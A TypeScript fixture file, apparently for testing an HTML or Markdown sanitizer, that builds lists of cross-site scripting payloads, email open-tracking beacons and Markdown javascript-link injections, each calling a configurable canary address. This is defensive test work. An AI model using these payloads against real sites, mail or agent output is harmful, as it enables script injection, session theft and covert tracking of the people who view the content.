/** What somebody who means harm puts wherever they may write. Each fragment calls the canary when it runs or loads. */

/** `at`: the canary's address. Anything that runs fetches `/ran`, anything that loads fetches `/loaded`. */
export const scriptFragments = (at: string): string[] => {
  const run = `fetch('${at}/ran')`;
  const encoded = run.replaceAll("'", '&#39;');
  return [
    `<script>${run}</script>`,
    `<ScRiPt src="${at}/ran.js"></sCrIpT>`,
    `<script/x>${run}</script>`,
    `<<script>${run}//<</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<img src=x onerror="${encoded}">`,
    `<img src=x onerror=${encoded.replaceAll(' ', '')}>`,
    `<img/src=x/onerror="${encoded}"/>`,
    `<img src="x\` \`<script>${run}</script>"\` \`>`,
    `<svg onload="${encoded}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${encoded}" attributeName=x dur=1s></svg>`,
    `<svg><a xlink:href="javascript:${encoded}"><text x=20 y=20>click</text></a></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${encoded}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${encoded}">`,
    `<noscript><p title="</noscript><img src=x onerror=${encoded}>">`,
    `<iframe srcdoc="<script>${encoded}</script>"></iframe>`,
    `<iframe src="javascript:${encoded}"></iframe>`,
    `<object data="javascript:${encoded}"></object>`,
    `<embed src="data:text/html,<script>${encoded}</script>">`,
    `<details open ontoggle="${encoded}">x</details>`,
    `<video><source onerror="${encoded}"></video>`,
    `<audio src=x onerror="${encoded}"></audio>`,
    `<input autofocus onfocus="${encoded}">`,
    `<body onload="${encoded}">`,
    `<marquee onstart="${encoded}">x</marquee>`,
    `<a href="javascript:${encoded}">click</a>`,
    `<a href="jAvAsCrIpT&colon;${encoded}">click</a>`,
    `<a href="java&#10;script:${encoded}">click</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
    `<a href="vbscript:msgbox(1)">click</a>`,
    `<div style="width:expression(${encoded})">x</div>`,
    `<meta http-equiv="refresh" content="0;url=${at}/loaded">`,
    `<base href="${at}/">`,
    `<isindex type=image src=1 onerror="${encoded}">`,
    `<template><script>${run}</script></template>`,
    `<xmp><p title="</xmp><img src=x onerror=${encoded}>">`,
    `<title><a title="</title><img src=x onerror=${encoded}>">`,
    `<button formaction="javascript:${encoded}">press</button>`,
    `<keygen autofocus onfocus="${encoded}">`,
  ];
};

/** What tells the sender that a mail was opened. */
export const beacons = (at: string): string[] => [
  `<img src="${at}/loaded.png" width="1" height="1">`,
  `<img srcset="${at}/loaded.png 1x">`,
  `<picture><source srcset="${at}/loaded.png"><img src="${at}/loaded.png"></picture>`,
  `<table background="${at}/loaded.png"><tr><td background="${at}/loaded.png">x</td></tr></table>`,
  `<div style="background:url(${at}/loaded.png)">x</div>`,
  `<div style="background-image:\\75rl(${at}/loaded.png)">x</div>`,
  `<style>@import url(${at}/loaded.css); body{background:url(${at}/loaded.png)}</style>`,
  `<link rel="stylesheet" href="${at}/loaded.css">`,
  `<link rel="prefetch" href="${at}/loaded">`,
  `<video poster="${at}/loaded.png" src="${at}/loaded.mp4" autoplay></video>`,
  `<audio src="${at}/loaded.mp3" autoplay></audio>`,
  `<iframe src="${at}/loaded"></iframe>`,
  `<object data="${at}/loaded"></object>`,
  `<embed src="${at}/loaded">`,
  `<input type="image" src="${at}/loaded.png">`,
  `<svg><image href="${at}/loaded.png"/><use href="${at}/loaded.svg#x"/></svg>`,
  `<form action="${at}/loaded"><button>send</button></form>`,
  `<a ping="${at}/loaded" href="https://example.com/">link</a>`,
];

/** The same aims in Markdown, which agents' and customers' texts may carry. */
export const markdownFragments = (at: string): string[] => [
  `[click](javascript:fetch('${at}/ran'))`,
  `[click](JaVaScRiPt:fetch('${at}/ran'))`,
  `[click](data:text/html,<script>fetch('${at}/ran')</script>)`,
  `![picture](${at}/loaded.png)`,
  `<javascript:fetch('${at}/ran')>`,
  `[x]: javascript:fetch('${at}/ran')\n[x]`,
  `**<img src=x onerror="fetch('${at}/ran')">**`,
  `\`<script>fetch('${at}/ran')</script>\``,
];
